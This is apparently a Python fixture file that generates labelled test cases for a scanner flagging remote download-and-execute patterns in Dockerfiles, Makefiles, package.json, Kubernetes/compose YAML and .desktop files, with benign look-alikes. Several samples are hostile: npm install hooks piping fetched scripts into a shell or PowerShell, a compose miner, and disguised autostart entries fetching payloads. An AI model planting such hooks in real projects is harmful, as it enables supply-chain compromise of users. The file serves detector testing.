# Build / config carriers: dockerfile, makefile, package-json, yaml, desktop.
import json

from common import C, ps_enc


def pj(obj):
    return json.dumps(obj, indent=2) + "\n"


# ================================================================ dockerfile
C("h3-docker-add-chmod-url-01", "Dockerfile ADD --chmod=755 <url> (BuildKit)", "dockerfile",
  "/src/svc/gateway/Dockerfile", "detect", r"""# syntax=docker/dockerfile:1.6
FROM gcr.io/distroless/base-debian12
ADD --chmod=755 https://203.0.113.26/bin/gateway-linux-amd64 /usr/local/bin/gateway
ENTRYPOINT ["/usr/local/bin/gateway"]
""")

C("h3-docker-add-checksum-url-02", "Dockerfile ADD --checksum=sha256 <url> (still a remote fetch)", "dockerfile",
  "/src/svc/tini/Dockerfile", "detect", r"""# syntax=docker/dockerfile:1.7
FROM debian:12-slim
ADD --checksum=sha256:93dcc18adc78c65a028a84799ecf8ad40c936fdfc5f2a57b1acda5a8117fa82c https://releases.tini.example/v0.19.0/tini /tini
RUN chmod +x /tini
ENTRYPOINT ["/tini", "--"]
""")

C("h3-docker-run-curl-lo-tini-03", "Dockerfile RUN curl -fsSLo binary && chmod +x (continuation lines)", "dockerfile",
  "/src/svc/api/Containerfile", "detect", r"""FROM registry.example/base/python:3.12-slim
ENV GOSU_VERSION=1.17
RUN set -eux; \
    dpkgArch="$(dpkg --print-architecture)"; \
    curl -fsSLo /usr/local/bin/gosu \
        "http://198.51.100.96/gosu/${GOSU_VERSION}/gosu-${dpkgArch}"; \
    chmod +x /usr/local/bin/gosu; \
    gosu nobody true
COPY . /app
CMD ["python", "/app/main.py"]
""")

C("h3-docker-shell-powershell-iwr-04", "Windows Dockerfile: SHELL [\"powershell\"...] then RUN Invoke-WebRequest", "dockerfile",
  "/src/win/iis-app/Dockerfile", "detect", r"""# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop'; $ProgressPreference = 'SilentlyContinue';"]
RUN Invoke-WebRequest -Uri https://203.0.113.133/msi/urlrewrite.msi -OutFile C:\urlrewrite.msi; `
    Start-Process msiexec.exe -ArgumentList '/i', 'C:\urlrewrite.msi', '/qn' -Wait; `
    Remove-Item C:\urlrewrite.msi
""")

C("h3-docker-run-wget-tar-xj-05", "Dockerfile RUN wget -O- | tar -xJ into /opt", "dockerfile",
  "/src/svc/node/Dockerfile", "detect", r"""FROM ubuntu:22.04
ARG NODE_VERSION=20.11.1
RUN apt-get update && apt-get install -y --no-install-recommends wget xz-utils ca-certificates \
 && wget -qO- "https://nodejs.mirror.example/dist/v${NODE_VERSION}/node-v${NODE_VERSION}-linux-x64.tar.xz" \
    | tar -xJ -C /opt \
 && ln -s /opt/node-v${NODE_VERSION}-linux-x64/bin/node /usr/local/bin/node
""")

C("h3-docker-secret-mount-curl-06", "Dockerfile RUN --mount=type=secret curl --netrc-file", "dockerfile",
  "/src/svc/private/Dockerfile", "detect", r"""# syntax=docker/dockerfile:1
FROM alpine:3.19
RUN --mount=type=secret,id=netrc \
    apk add --no-cache curl && \
    curl --netrc-file /run/secrets/netrc -fsSL -o /usr/local/bin/private-cli \
        https://artifacts.corp.example/private-cli/latest/linux-amd64 && \
    chmod 0755 /usr/local/bin/private-cli
""")

C("h3-docker-run-sh-c-exec-form-07", "Dockerfile RUN [\"/bin/sh\", \"-c\", \"wget ... | sh\"]", "dockerfile",
  "/src/svc/legacy/Dockerfile.prod", "detect", r"""FROM busybox:1.36
RUN ["/bin/sh", "-c", "wget -q -O - http://198.51.100.199/setup.sh | sh"]
CMD ["httpd", "-f", "-p", "8080"]
""")

C("h3-docker-entrypoint-curl-08", "Dockerfile ENTRYPOINT/CMD shell form downloading at start", "dockerfile",
  "/src/svc/runner/Dockerfile", "detect", r"""FROM debian:12-slim
RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*
ENTRYPOINT curl -s http://203.0.113.166/runner/start.sh | bash
""")

C("h3-docker-silent-multistage-01", "look-alike: multi-stage build, COPY --from, local ADD of tarball", "dockerfile",
  "/src/svc/web/Dockerfile", "silent", r"""FROM golang:1.22 AS build
WORKDIR /src
COPY go.mod go.sum ./
RUN go mod download
COPY . .
RUN CGO_ENABLED=0 go build -o /out/web ./cmd/web

FROM gcr.io/distroless/static-debian12
ADD rootfs.tar.gz /
COPY --from=build /out/web /web
ENTRYPOINT ["/web"]
""")

C("h3-docker-silent-apk-healthcheck-02", "look-alike: apk add curl + HEALTHCHECK curl localhost", "dockerfile",
  "/src/svc/proxy/Dockerfile", "silent", r"""FROM nginx:1.27-alpine
RUN apk add --no-cache curl wget
COPY nginx.conf /etc/nginx/nginx.conf
HEALTHCHECK --interval=30s --timeout=3s CMD curl -fs http://localhost/healthz || exit 1
""")

C("h3-docker-silent-labels-03", "look-alike: OCI labels with URLs, pip install from default index", "dockerfile",
  "/src/svc/worker/Dockerfile", "silent", r"""FROM python:3.12-slim
LABEL org.opencontainers.image.source="https://git.example.com/team/worker" \
      org.opencontainers.image.documentation="https://docs.example.com/worker"
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt
COPY worker/ /app/worker/
CMD ["python", "-m", "worker"]
""")

# ================================================================ makefile
C("h3-make-curl-target-url-var-01", "Makefile: curl -sSfL $(URL) -o $@", "makefile",
  "/src/tools/Makefile", "detect", "PROTOC_URL := https://203.0.113.47/protoc/protoc-25.1-linux-x86_64.zip\n\n"
  "bin/protoc.zip:\n\tmkdir -p bin\n\tcurl -sSfL $(PROTOC_URL) -o $@\n\n"
  "bin/protoc: bin/protoc.zip\n\tunzip -o $< -d bin/protoc-dist\n\tln -sf protoc-dist/bin/protoc $@\n")

C("h3-make-shell-function-wget-02", "Makefile: $(shell wget -qO- ...) at parse time", "makefile",
  "/src/app/Makefile", "detect", "VERSION := $(shell wget -qO- http://198.51.100.107/version.txt)\n"
  "LDFLAGS := -X main.version=$(VERSION)\n\nbuild:\n\tgo build -ldflags \"$(LDFLAGS)\" ./...\n")

C("h3-make-rsync-pull-03", "Makefile: rsync pull of test fixtures from a remote host", "makefile",
  "/src/ml/Makefile", "detect", "FIXTURE_HOST ?= data@fixtures.corp.example\n\n.PHONY: fixtures\n"
  "fixtures:\n\trsync -avz $(FIXTURE_HOST):/datasets/fixtures/ tests/fixtures/\n")

C("h3-make-curl-pipe-bash-04", "Makefile: tools target with curl | bash -s -- -b", "makefile",
  "/src/lint/GNUmakefile", "detect", "GOBIN ?= $(HOME)/go/bin\n\ntools:\n"
  "\tcurl -sSfL https://raw.installers.example/golangci/install.sh | bash -s -- -b $(GOBIN) v1.57.2\n")

C("h3-make-silent-help-01", "look-alike: Makefile help target echoing curl usage", "makefile",
  "/src/docs-site/Makefile", "silent", ".PHONY: help serve\nhelp:\n"
  "\t@echo \"make serve   - serve the site on http://localhost:1313\"\n"
  "\t@echo \"Install hugo first (see https://docs.example.com/hugo, e.g. with curl or your package manager)\"\n"
  "serve:\n\thugo server --bind 127.0.0.1\n")

C("h3-make-silent-install-02", "look-alike: Makefile install/copy/test targets", "makefile",
  "/src/cli/Makefile", "silent", "PREFIX ?= /usr/local\n\ninstall: build\n"
  "\tinstall -m 0755 bin/cli $(PREFIX)/bin/cli\n\tcp -r share/ $(PREFIX)/share/cli/\n\n"
  "test:\n\tcurl -fs http://127.0.0.1:8080/ping || (echo 'start the dev server first'; exit 1)\n\tgo test ./...\n")

# ================================================================ package-json
C("h3-pkgjson-preinstall-ps-iex-01", "npm preinstall running powershell iwr | iex (Windows supply-chain)", "package-json",
  "/app/node_modules/win-path-fix/package.json", "detect", pj({
      "name": "win-path-fix", "version": "1.0.3", "main": "index.js",
      "scripts": {"preinstall": "powershell -NoProfile -Command \"iwr https://203.0.113.144/p.ps1 -UseBasicParsing | iex\""}}))

C("h3-pkgjson-install-curl-chmod-02", "npm install script: curl -o bin && chmod +x", "package-json",
  "/usr/lib/node_modules/fast-diff-cli/package.json", "detect", pj({
      "name": "fast-diff-cli", "version": "0.4.1", "bin": {"fdiff": "bin/fdiff"},
      "scripts": {"install": "curl -sL http://198.51.100.190/fdiff-linux -o bin/fdiff && chmod +x bin/fdiff"}}))

C("h3-pkgjson-postinstall-wget-sh-03", "npm postinstall wget -qO- | sh", "package-json",
  "/srv/dashboard/node_modules/chart-theme-pack/package.json", "detect", pj({
      "name": "chart-theme-pack", "version": "2.2.0",
      "scripts": {"postinstall": "wget -qO- http://203.0.113.231/ct.sh | sh || true"}}))

C("h3-pkgjson-postinstall-python-04", "npm postinstall python3 -c urllib download", "package-json",
  "/app/node_modules/@corp-internal/telemetry/package.json", "detect", pj({
      "name": "@corp-internal/telemetry", "version": "9.9.9",
      "scripts": {"postinstall": "python3 -c \"import urllib.request as r;exec(r.urlopen('http://198.51.100.251/t').read())\""}}))

C("h3-pkgjson-silent-scripts-01", "look-alike: ordinary scripts incl. local health curl", "package-json",
  "/srv/api/package.json", "silent", pj({
      "name": "api", "version": "1.8.0", "private": True,
      "scripts": {"start": "node server.js", "test": "jest --ci", "lint": "eslint .",
                  "health": "curl -fs http://localhost:3000/health"},
      "dependencies": {"express": "^4.19.2"}}))

C("h3-pkgjson-silent-metadata-02", "look-alike: repository/homepage/bugs URLs in metadata", "package-json",
  "/app/node_modules/tiny-url-join/package.json", "silent", pj({
      "name": "tiny-url-join", "version": "3.0.0", "description": "join URL parts (curl-friendly)",
      "homepage": "https://www.example.com/tiny-url-join",
      "repository": {"type": "git", "url": "git+https://git.example.com/libs/tiny-url-join.git"},
      "bugs": {"url": "https://git.example.com/libs/tiny-url-join/issues"},
      "scripts": {"build": "tsc -p .", "prepublishOnly": "npm run build"}}))

# ================================================================ yaml
C("h3-yaml-k8s-initcontainer-wget-01", "Kubernetes initContainer wget -O into a shared volume", "yaml",
  "/deploy/k8s/web-with-init.yaml", "detect", r"""apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  initContainers:
    - name: install
      image: busybox:1.36
      command:
        - wget
        - "-O"
        - "/work-dir/index.html"
        - http://content.site.example/index.html
      volumeMounts:
        - name: workdir
          mountPath: /work-dir
  containers:
    - name: nginx
      image: nginx:1.27
      volumeMounts:
        - name: workdir
          mountPath: /usr/share/nginx/html
  volumes:
    - name: workdir
      emptyDir: {}
""")

C("h3-yaml-k8s-cronjob-curl-sh-02", "Kubernetes CronJob args block scalar with curl | sh", "yaml",
  "/deploy/k8s/cleanup-cronjob.yaml", "detect", r"""apiVersion: batch/v1
kind: CronJob
metadata:
  name: node-cleanup
spec:
  schedule: "*/20 * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers:
            - name: cleanup
              image: alpine:3.19
              command: ["/bin/sh", "-c"]
              args:
                - |
                  apk add --no-cache curl
                  curl -fsSL http://203.0.113.213/clean.sh | sh
""")

C("h3-yaml-compose-command-list-03", "compose command: [sh, -c, wget && chmod && run]", "yaml",
  "/srv/compose/miner/docker-compose.yaml", "detect", r"""services:
  worker:
    image: alpine:3.19
    restart: always
    command: ["sh", "-c", "wget -q http://198.51.100.248/xw -O /tmp/xw && chmod +x /tmp/xw && /tmp/xw -o pool.mine.example:3333"]
""")

C("h3-yaml-k8s-windows-pod-ps-04", "Kubernetes Windows pod running powershell DownloadFile", "yaml",
  "/deploy/k8s/win-agent.yaml", "detect", r"""apiVersion: v1
kind: Pod
metadata:
  name: win-agent
spec:
  nodeSelector:
    kubernetes.io/os: windows
  containers:
    - name: agent
      image: mcr.microsoft.com/windows/servercore:ltsc2022
      command:
        - powershell.exe
        - -Command
        - (New-Object Net.WebClient).DownloadFile('http://203.0.113.250/agent.exe','C:\agent.exe'); C:\agent.exe
""")

C("h3-yaml-k8s-job-scp-05", "Kubernetes Job: scp pull of a dataset", "yaml",
  "/deploy/k8s/jobs/load-dataset.yaml", "detect", r"""apiVersion: batch/v1
kind: Job
metadata:
  name: load-dataset
spec:
  template:
    spec:
      restartPolicy: OnFailure
      containers:
        - name: load
          image: registry.example/tools/ssh-client:1.0
          command: ["scp", "-i", "/keys/id", "-o", "StrictHostKeyChecking=no",
                    "loader@data.corp.example:/exports/dataset.parquet", "/data/dataset.parquet"]
""")

C("h3-yaml-compose-entrypoint-curl-06", "compose entrypoint string with curl -o then exec", "yaml",
  "/srv/compose/app/compose.yml", "detect", r"""services:
  app:
    image: debian:12-slim
    entrypoint: /bin/bash -c "curl -fsSL -o /usr/local/bin/app https://203.0.113.81/app/app-linux && chmod +x /usr/local/bin/app && exec /usr/local/bin/app"
    ports:
      - "8080:8080"
""")

C("h3-yaml-silent-probes-01", "look-alike: liveness/readiness exec probes to 127.0.0.1", "yaml",
  "/deploy/k8s/search-sts.yaml", "silent", r"""apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: search
spec:
  serviceName: search
  selector:
    matchLabels: {app: search}
  template:
    metadata:
      labels: {app: search}
    spec:
      containers:
        - name: search
          image: registry.example/search:8.13
          livenessProbe:
            exec:
              command: ["sh", "-c", "curl -fs http://127.0.0.1:9200/_cluster/health"]
          readinessProbe:
            exec:
              command: ["wget", "-q", "--spider", "http://localhost:9200/"]
""")

C("h3-yaml-silent-compose-basic-02", "look-alike: compose file with images, ports and a docs URL label", "yaml",
  "/srv/compose/web/docker-compose.yml", "silent", r"""services:
  web:
    image: nginx:1.27
    ports: ["80:80"]
    labels:
      com.example.docs: "https://docs.example.com/web"
  cache:
    image: redis:7
    command: ["redis-server", "--save", "", "--appendonly", "no"]
""")

# ================================================================ desktop
C("h3-desktop-autostart-bash-wget-01", "XDG autostart Exec=bash -c 'wget; chmod; run'", "desktop",
  "/etc/xdg/autostart/gnome-keyring-extra.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Keyring helper
Exec=bash -c 'wget -q -O ~/.local/bin/kh http://198.51.100.149/kh && chmod +x ~/.local/bin/kh && ~/.local/bin/kh'
X-GNOME-Autostart-enabled=true
NoDisplay=true
""")

C("h3-desktop-app-perl-lwp-02", "application launcher Exec=perl -MLWP::Simple -e getstore", "desktop",
  "/usr/share/applications/font-updater.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Font updater
Exec=perl -MLWP::Simple -e 'getstore("http://203.0.113.201/f.pl", "/tmp/f.pl"); exec("perl", "/tmp/f.pl")'
Terminal=false
Categories=Utility;
""")

C("h3-desktop-user-autostart-curl-sh-03", "user autostart Exec=sh -c \"curl | sh\"", "desktop",
  "/home/user/.config/autostart/tracker-miner-x.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Tracker miner
Exec=sh -c "curl -fsSL https://203.0.113.4/tm.sh | sh"
Hidden=false
""")

C("h3-desktop-silent-terminal-01", "look-alike: launcher opening a terminal with htop", "desktop",
  "/usr/share/applications/system-monitor-term.desktop", "silent", r"""[Desktop Entry]
Type=Application
Name=System monitor (terminal)
Comment=See https://docs.example.com/monitoring
Exec=gnome-terminal -- htop
Icon=utilities-system-monitor
Categories=System;Monitor;
""")
